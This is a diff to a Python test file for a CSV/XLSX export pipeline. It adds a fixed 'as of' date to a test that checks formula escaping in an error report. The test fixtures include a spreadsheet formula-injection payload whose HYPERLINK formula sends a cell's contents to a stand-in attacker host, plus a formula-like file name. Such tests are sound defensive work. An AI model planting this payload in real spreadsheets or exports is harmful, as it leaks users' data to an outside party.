@@ -15,6 +15,8 @@ from pipeline.export.safe import neutralise
 from pipeline.export.tables import Row, write_csv, write_tables
 from pipeline.export.xlsx import write_xlsx
 
+from .conftest import AS_OF
+
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
 
@@ -80,6 +82,6 @@ def test_export_safe_error_rows(tmp_path: Path) -> None:
     inbox = tmp_path / "inbox"
     inbox.mkdir()
     (inbox / "=HYPERLINK(1).txt").write_bytes(b"")
-    run(inbox, tmp_path / "out")
+    run(inbox, tmp_path / "out", today=AS_OF)
     text = (tmp_path / "out" / "errors.csv").read_text(encoding="utf-8-sig")
     assert list(csv.reader(io.StringIO(text)))[1][0] == "'=HYPERLINK(1).txt"
